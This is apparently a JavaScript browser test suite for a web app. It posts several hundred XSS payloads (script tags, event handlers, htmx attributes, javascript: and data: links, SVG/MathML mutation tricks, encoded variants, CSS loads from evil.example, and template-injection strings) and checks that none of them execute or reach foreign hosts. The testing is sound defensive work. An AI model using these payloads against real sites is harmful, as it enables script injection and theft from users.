// The XSS corpus: several hundred hostile payloads (script tags, event handlers, hx- and data-hx- attributes,
// javascript: and data: links, Markdown link and image tricks, SVG and MathML, entity-encoded variants, CSS and style
// tricks, template-injection strings) are posted through the JSON API as question titles and bodies, answers,
// comments and evidence, and the pages that show them are rendered in headless Chromium. Nothing may run: no call to
// window.__xss or a dialog, no Content-Security-Policy violation (which would mean markup got through and only the
// policy stopped it), no template expression evaluated, and not one request to anything but the app itself (every
// request the pages make is recorded; probes point at evil.example and at /xss-probe paths the app does not serve).
//
// BASE_URL points at a running workspace (BrowserJourneysIT starts one, with posting limits raised); CHROMIUM at
// Debian's chromium binary. A failed page leaves a screenshot and its HTML in test-results/ beside this file
// (BrowserJourneysIT runs a copy in workspace-app/target/e2e/).
import { test, after, before } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { chromium } from 'playwright-core';

const BASE_URL = process.env.BASE_URL ?? 'http://localhost:8080';
const ORIGIN = new URL(BASE_URL).origin;
const PASSWORD = 'collaborate-in-london';
const TOM = 'tom.hughes@camden.example';
const RESULTS = new URL('./test-results/', import.meta.url);
const THEMES_OF_THE_JOURNEYS = ['behaviour-change', 'climate-change-and-carbon-reduction', 'understanding-population-flows'];

// --- the corpus ----------------------------------------------------------------------------------------------------

const CALL = 'window.__xss(1)';
const EVIL = 'https://evil.example/xss-probe';
const LOCAL = '/xss-probe';

const scriptTags = [
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script src="${EVIL}.js"></script>`,
  `<script src=${LOCAL}.js></script>`,
  `<script/src="${EVIL}.js"></script>`,
  `<script>/*</script><script>*/${CALL}</script>`,
  `"><script>${CALL}</script>`,
  `'><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</p></div><script>${CALL}</script>`,
  `<script type="module">${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<<script>${CALL}//<</script>`,
  `<script\x20type="text/javascript">${CALL}</script>`,
  `<noscript><p title="</noscript><script>${CALL}</script>">`,
];

const tags = [
  ['img', 'src=x'], ['image', 'src=x'], ['svg', ''], ['body', ''], ['iframe', ''], ['video', 'src=x'], ['audio', 'src=x'],
  ['details', 'open'], ['input', 'autofocus'], ['select', 'autofocus'], ['textarea', 'autofocus'], ['button', 'autofocus'],
  ['marquee', ''], ['div', 'tabindex=1 id=x'], ['a', 'href=#'], ['object', 'data=x'], ['embed', 'src=x'], ['math', ''],
  ['style', ''], ['form', ''], ['p', ''],
];
const handlers = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpageshow'];
const eventHandlers = [];
for (const [tag, extra] of tags) {
  const handler = handlers[eventHandlers.length % handlers.length];
  eventHandlers.push(`<${tag} ${extra} ${handler}=${CALL}>x</${tag}>`);
  eventHandlers.push(`<${tag.toUpperCase()} ${extra} ${handler.toUpperCase()}="${CALL}">x`);
}
eventHandlers.push(
  `<img src=x onerror="${CALL}">`,
  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
  `<img/src=x/onerror=${CALL}>`,
  `<svg/onload=${CALL}>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set onbegin=${CALL} attributeName=x to=1>`,
  `<body onload=${CALL}>`,
  `<input onfocus=${CALL} autofocus>`,
  `<details open ontoggle=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<div style="animation-name:x" onanimationstart=${CALL}></div>`,
  `<a onmouseover="${CALL}">hover</a>`,
  `<img src=x onerror=&#x77;indow.__xss(1)>`,
  `<img src=x onerror=\u0061lert(1)>`,
);

const htmx = [
  `<div hx-get="${LOCAL}" hx-trigger="load">x</div>`,
  `<div data-hx-get="${LOCAL}" data-hx-trigger="load">x</div>`,
  `<div hx-get="${EVIL}" hx-trigger="load">x</div>`,
  `<div hx-post="${LOCAL}" hx-trigger="load" hx-swap="outerHTML">x</div>`,
  `<span hx-put="${LOCAL}" hx-trigger="load">x</span>`,
  `<img src=x hx-on:error="${CALL}">`,
  `<img src=x hx-on::error="${CALL}">`,
  `<img src=x data-hx-on:error="${CALL}">`,
  `<div hx-on:htmx:load="${CALL}">x</div>`,
  `<div hx-on::load="${CALL}">x</div>`,
  `<button hx-post="${LOCAL}" hx-vals='js:{a: ${CALL}}' hx-trigger="load">x</button>`,
  `<div hx-get="${LOCAL}" hx-trigger="every 1s">x</div>`,
  `<div hx-ext="sse" sse-connect="${LOCAL}">x</div>`,
  `<div hx-boost="true"><a href="${LOCAL}">x</a></div>`,
  `<form hx-post="${LOCAL}" hx-trigger="load"><input name=a></form>`,
  `<div hx-get="${LOCAL}" hx-trigger="load" hx-target="body" hx-swap="innerHTML">x</div>`,
  `<a href="${LOCAL}" hx-get="${LOCAL}" hx-trigger="revealed">x</a>`,
  `<div hx-headers='{"X-CSRF-TOKEN":"x"}' hx-delete="${LOCAL}" hx-trigger="load">x</div>`,
  `<div data-hx-trigger="load" data-hx-post="${EVIL}">x</div>`,
  `<div hx-disable="false" hx-get="${LOCAL}" hx-trigger="load">x</div>`,
];

const links = [
  `[click](javascript:${CALL})`,
  `[click](JaVaScRiPt:${CALL})`,
  `[click](javascript&#58;${CALL})`,
  `[click](&#106;avascript:${CALL})`,
  `[click](&#x6A;avascript:${CALL})`,
  `[click]( javascript:${CALL})`,
  `[click](<javascript:${CALL}>)`,
  `[click](javascript://%0a${CALL})`,
  `[click](java\tscript:${CALL})`,
  `[click](vbscript:msgbox(1))`,
  `[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3MoMSk8L3NjcmlwdD4=)`,
  `[click](data:text/html,<script>${CALL}</script>)`,
  `[click](file:///etc/passwd)`,
  `[click][r]\n\n[r]: javascript:${CALL}`,
  `[click][r]\n\n[r]: <javascript:${CALL}> "title"`,
  `<javascript:${CALL}>`,
  `<a href="javascript:${CALL}">click</a>`,
  `<a href="  javascript:${CALL}">click</a>`,
  `<a href="data:text/html,<script>${CALL}</script>">click</a>`,
  `<a href="${EVIL}" ping="${EVIL}">click</a>`,
  `[click](${EVIL} "title\\" onmouseover=\\"${CALL}")`,
  `[click](https://example.org" onclick="${CALL})`,
  `[a](https://example.org)<a href=javascript:${CALL}>b</a>`,
  `https://example.org/"><script>${CALL}</script>`,
  `www.example.org/<img src=x onerror=${CALL}>`,
  `<a href="https://example.org" target="_blank" rel="opener">opener</a>`,
  `<area href="javascript:${CALL}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<link rel="prefetch" href="${EVIL}">`,
  `<link rel=stylesheet href=${EVIL}.css>`,
];

const images = [
  `![x](${EVIL}.png)`,
  `![x](${LOCAL}.png)`,
  `![x](x" onerror="${CALL})`,
  `![x](javascript:${CALL})`,
  `![x"onerror="${CALL}](x)`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93Ll9feHNzKDEpPjwvc3ZnPg==)`,
  `[![x](${EVIL}.png)](javascript:${CALL})`,
  `![x][i]\n\n[i]: ${EVIL}.png`,
  `![x](<${LOCAL}.png> "t")`,
  `<img src="${EVIL}.png">`,
  `<img src=${LOCAL}.png>`,
  `<img srcset="${EVIL}.png 1x">`,
  `<picture><source srcset="${EVIL}.png"><img></picture>`,
  `<video poster=${EVIL}.png></video>`,
  `<audio src=${LOCAL}.mp3 autoplay></audio>`,
  `<input type=image src=${LOCAL}.png>`,
  `<table background="${LOCAL}.png"><tr><td>x</td></tr></table>`,
  `<iframe src="${EVIL}"></iframe>`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<object data="${EVIL}"></object>`,
  `<embed src="${EVIL}">`,
];

const svgAndMath = [
  `<svg><a xlink:href="javascript:${CALL}"><text x=10 y=20>x</text></a></svg>`,
  `<svg><a href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<svg><image href="${EVIL}.png"/></svg>`,
  `<svg><use href="${EVIL}.svg#x"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${CALL}"></iframe></foreignObject></svg>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${CALL}">x</maction></math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${CALL} src>">`,
  `<svg><animate xlink:href=#x attributeName=href values=javascript:${CALL} /><a id=x><text>x</text></a></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${CALL}"/>`,
];

const encoded = [
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `&#x3C;img src=x onerror=${CALL}&#x3E;`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `<img src=x onerror=&#119;&#105;&#110;&#100;&#111;&#119;.__xss(1)>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${CALL}">x</a>`,
  `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${CALL}">x</a>`,
  `<a href="jav&#x09;ascript:${CALL}">x</a>`,
  `<a href="jav&#x0A;ascript:${CALL}">x</a>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${CALL}>`,
  `\\<script\\>${CALL}\\</script\\>`,
  `<scr\u0000ipt>${CALL}</scr\u0000ipt>`,
  `＜script＞${CALL}＜/script＞`,
];

const styles = [
  `<div style="background:url(${EVIL}.png)">x</div>`,
  `<div style="background-image:url('${LOCAL}.png')">x</div>`,
  `<style>@import '${EVIL}.css';</style>`,
  `<style>body{background:url(${LOCAL}.png)}</style>`,
  `<style>*{animation:x 1s}@keyframes x{}</style><div onanimationstart=${CALL}>x</div>`,
  `<div style="width:expression(${CALL})">x</div>`,
  `<p style="behavior:url(${LOCAL}.htc)">x</p>`,
  `<div style="position:fixed;top:0;left:0;width:100%;height:100%" onmouseover=${CALL}>x</div>`,
  `<span style="font-family:x;src:url(${EVIL}.woff)">x</span>`,
  `<style>@font-face{font-family:x;src:url(${EVIL}.woff)}</style>`,
  `<div style="--x:url(${EVIL}.png);background:var(--x)">x</div>`,
  `<svg><style>@import url(${EVIL}.css)</style></svg>`,
];

const templates = [
  'xsseval[[${7*7}]]',
  'xsseval[(${7*7})]',
  'xsseval${7*7}',
  'xsseval#{7*7}',
  'xsseval*{7*7}',
  'xsseval__${7*7}__',
  'xsseval{{7*7}}',
  'xsseval${{7*7}}',
  'xsseval<%= 7*7 %>',
  'xsseval@{7*7}',
  'xsseval[[${T(java.lang.Runtime).getRuntime().availableProcessors()*0+49}]]',
  'xsseval{{constructor.constructor("window.__xss(1)")()}}',
  '[[${@markdown.html("<script>window.__xss(1)</script>")}]]',
  '<div th:utext="${7*7}">xsseval</div>',
  '<div th:text="xsseval${7*7}"></div>',
];

const bases = [...scriptTags, ...eventHandlers, ...htmx, ...links, ...images, ...svgAndMath, ...encoded, ...styles,
  ...templates];

// Each base payload alone, and inside the Markdown constructs a post is most likely to use.
const wrappers = [
  (p) => p,
  (p) => `Some text first. ${p} and after.`,
  (p) => `> ${p}`,
  (p) => `- item\n- ${p}`,
  (p) => `**${p}**`,
];
const PAYLOADS = [];
bases.forEach((base, i) => PAYLOADS.push(wrappers[i % wrappers.length](base)));
bases.forEach((base, i) => PAYLOADS.push(wrappers[(i + 1 + (i % 3)) % wrappers.length](base)));

// --- the browser ---------------------------------------------------------------------------------------------------

let browser;
let context;
const requests = [];
const dialogs = [];

before(async () => {
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
      '--disable-component-update', '--disable-sync'],
  });
  context = await browser.newContext({ baseURL: BASE_URL, viewport: { width: 1100, height: 900 } });
  await context.addInitScript(() => {
    window.__xssHits = [];
    window.__cspViolations = [];
    window.__xss = (...args) => window.__xssHits.push(`__xss(${args.join(',')}) at ${location.pathname}`);
    for (const name of ['alert', 'confirm', 'prompt', 'print']) {
      window[name] = (...args) => window.__xssHits.push(`${name}(${args.join(',')}) at ${location.pathname}`);
    }
    document.addEventListener('securitypolicyviolation', (e) =>
      window.__cspViolations.push(`${e.violatedDirective} blocked ${e.blockedURI} at ${location.pathname}`));
  });
  await context.route('**/*', (route) => {
    const url = route.request().url();
    requests.push(url);
    if (new URL(url).origin !== ORIGIN) return route.abort();
    return route.continue();
  });
  context.on('page', (page) => page.on('dialog', async (dialog) => {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    await dialog.dismiss();
  }));
});

after(async () => {
  await context?.close();
  await browser?.close();
});

async function signedIn() {
  const page = await context.newPage();
  await page.goto('/sign-in');
  await page.getByLabel('Email address').fill(TOM);
  await page.getByLabel('Password').fill(PASSWORD);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.waitForURL((url) => !url.pathname.startsWith('/sign-in'));
  return page;
}

/** The CSRF token of the signed-in session, as its forms carry it. */
async function csrfToken(page) {
  await page.goto('/themes');
  return page.locator('input[name="_csrf"]').first().getAttribute('value');
}

async function api(csrf, method, path, body) {
  const response = await context.request.fetch(path, {
    method,
    headers: { 'X-CSRF-TOKEN': csrf, Accept: 'application/json, application/problem+json' },
    data: body,
  });
  if (response.status() >= 300) {
    throw new Error(`${method} ${path}: ${response.status()} ${await response.text()}`);
  }
  return response.status() === 204 ? null : response.json();
}

/** Runs the tasks with at most `width` at a time. */
async function inParallel(tasks, width) {
  const results = [];
  let next = 0;
  await Promise.all(Array.from({ length: width }, async () => {
    while (next < tasks.length) {
      const i = next++;
      results[i] = await tasks[i]();
    }
  }));
  return results;
}

/** Opens a page and checks that nothing ran, nothing was loaded from elsewhere and no template was evaluated. */
async function assertInert(page, path, problems) {
  const before = requests.length;
  await page.goto(path, { waitUntil: 'load' });
  // A moment for anything that waits for load, a trigger or an animation. (Not "networkidle": the group page keeps
  // its live-update stream open.)
  await page.waitForTimeout(400);
  const hits = await page.evaluate(() => window.__xssHits);
  const violations = await page.evaluate(() => window.__cspViolations);
  const text = await page.locator('body').innerText();
  const foreign = requests.slice(before).filter((url) => new URL(url).origin !== ORIGIN || url.includes('xss-probe'));
  const found = [
    ...hits.map((h) => `script ran: ${h}`),
    ...violations.map((v) => `CSP violation: ${v}`),
    ...foreign.map((url) => `request: ${url}`),
    ...(text.includes('xsseval49') ? ['a template expression was evaluated'] : []),
  ];
  if (found.length > 0) {
    mkdirSync(RESULTS, { recursive: true });
    const file = `xss${path.replace(/[^a-z0-9]+/gi, '-')}`;
    await page.screenshot({ path: new URL(`${file}.png`, RESULTS).pathname, fullPage: true }).catch(() => {});
    writeFileSync(new URL(`${file}.html`, RESULTS), await page.content());
    problems.push(...found.map((f) => `${path}: ${f}`));
  }
}

test('the detectors see a script run, a CSP violation, a foreign request and an evaluated template', async () => {
  // A control page at the app's address, with a policy like the app's: if these checks saw nothing here, the corpus
  // passing would prove nothing.
  const page = await context.newPage();
  await page.route('**/xss-control', (route) => route.fulfill({
    contentType: 'text/html',
    headers: { 'Content-Security-Policy': "frame-src 'none'" },
    body: `<p>xsseval49</p><script>${CALL}</script><iframe src="/"></iframe><img src="${EVIL}.png">`
      + `<img src="${LOCAL}.png">`,
  }));
  const problems = [];
  await assertInert(page, '/xss-control', problems);
  await page.close();
  const kinds = ['script ran', 'CSP violation', `request: ${EVIL}.png`, `request: ${ORIGIN}${LOCAL}.png`,
    'template expression was evaluated'];
  for (const kind of kinds) {
    assert.ok(problems.some((p) => p.includes(kind)), `the control shows "${kind}": ${problems.join('; ')}`);
  }
  requests.length = 0;
});

test(`${PAYLOADS.length} hostile payloads are shown as text: nothing runs and nothing loads from elsewhere`,
  { timeout: 240_000 }, async () => {
    assert.ok(PAYLOADS.length >= 300, `${PAYLOADS.length} payloads`);
    const page = await signedIn();
    const csrf = await csrfToken(page);

    // An open group on a theme the journeys leave alone; Tom joins it (joining twice changes nothing).
    const themes = (await api(csrf, 'GET', '/api/themes')).filter((t) => !THEMES_OF_THE_JOURNEYS.includes(t.id));
    let group;
    for (const theme of themes) {
      const groups = await api(csrf, 'GET', `/api/groups?theme=${theme.id}`);
      group = groups.find((g) => g.visibility === 'OPEN');
      if (group) break;
    }
    assert.ok(group, 'an open group on a theme the journeys do not use');
    await api(csrf, 'POST', `/api/groups/${group.id}/members`);

    // Every payload twice: once in a question (as its title, or as the body of another payload's question), once as
    // an answer or a comment (spread over a few questions, so that no page grows huge).
    const started = Date.now();
    const run = Date.now().toString(36);
    const half = Math.ceil(PAYLOADS.length / 2);
    const questions = await inParallel(PAYLOADS.slice(0, half).map((payload, i) => () => api(csrf, 'POST',
      `/api/groups/${group.id}/questions`, {
        title: `xssmark ${run} ${i} ${payload}`.slice(0, 150),
        body: `xssmark\n\n${PAYLOADS[half + i] ?? payload}`,
      })), 4);
    const hosts = questions.slice(0, 8).map((q) => q.questionId);
    await inParallel(PAYLOADS.map((payload, i) => () => api(csrf, 'POST',
      `/api/items/${hosts[i % hosts.length]}/${i % 2 === 0 ? 'answers' : 'comments'}`, { text: payload })), 4);
    console.log(`posted ${questions.length} questions and ${PAYLOADS.length} answers and comments`
      + ` in ${Date.now() - started} ms`);

    // Evidence (through its form): payloads as title, summary and source.
    const evidence = PAYLOADS.filter((_, i) => i % 16 === 0);
    const evidenceIds = await inParallel(evidence.map((payload, i) => async () => {
      const evidenceId = crypto.randomUUID();
      const response = await context.request.post(`/groups/${group.id}/evidence`, {
        form: {
          _csrf: csrf, evidenceId, title: `xssmark ${run} evidence ${i} ${payload}`.slice(0, 150),
          summary: payload, source: i % 2 === 0 ? payload.slice(0, 1000) : `javascript:${CALL}`, kind: 'DATA', level: '2',
        },
        maxRedirects: 0,
      });
      assert.equal(response.status(), 302, `evidence ${i}: ${response.status()} ${await response.text()}`);
      return evidenceId;
    }), 4);

    // Wait until the views show everything.
    const deadline = Date.now() + 60_000;
    const perHost = PAYLOADS.length / hosts.length;
    for (;;) {
      const items = await Promise.all(hosts.map((host) => api(csrf, 'GET', `/api/items/${host}`)));
      const last = await context.request.get(`/api/items/${evidenceIds.at(-1)}`);
      if (items.every((item) => item.comments.length + item.answers.length >= Math.floor(perHost)) && last.ok()) break;
      assert.ok(Date.now() < deadline, 'the views caught up within a minute');
      await new Promise((resolve) => setTimeout(resolve, 500));
    }
    console.log(`views caught up after ${Date.now() - started} ms`);

    const problems = [];
    const pages = [
      `/groups/${group.id}`,
      ...hosts.map((host) => `/items/${host}`),
      `/search?q=xssmark+${run}`,
      `/evidence?theme=${group.themeId}`,
      `/proposals`,
      `/themes/${group.themeId}`,
      ...evidenceIds.filter((_, i) => i % 3 === 0).map((id) => `/items/${id}`),
      ...questions.filter((_, i) => i >= hosts.length && i % 8 === 1).map((q) => `/items/${q.questionId}`),
    ];
    for (const path of pages) {
      await assertInert(page, path, problems);
    }
    // htmx fetches the group's question list again when the group changes: the fragment is just as inert.
    await page.goto(`/groups/${group.id}`);
    await page.evaluate(() => window.htmx.trigger('#questions', 'sse:group-page-changed'));
    await page.waitForTimeout(1000);
    assert.deepEqual(await page.evaluate(() => window.__xssHits), [], 'after htmx refreshed the question list');

    assert.deepEqual(problems, [], `${problems.length} problems on ${pages.length} pages`);
    assert.deepEqual(dialogs, [], 'dialogs opened');
    const foreign = requests.filter((url) => new URL(url).origin !== ORIGIN || url.includes('xss-probe'));
    assert.deepEqual(foreign, [], 'requests to anything the app did not serve');
    console.log(`${PAYLOADS.length} payloads, ${questions.length} questions, ${PAYLOADS.length} answers and comments,`
      + ` ${evidenceIds.length} pieces of evidence; ${pages.length} pages and ${requests.length} requests checked`
      + ` in ${Date.now() - started} ms`);
  });
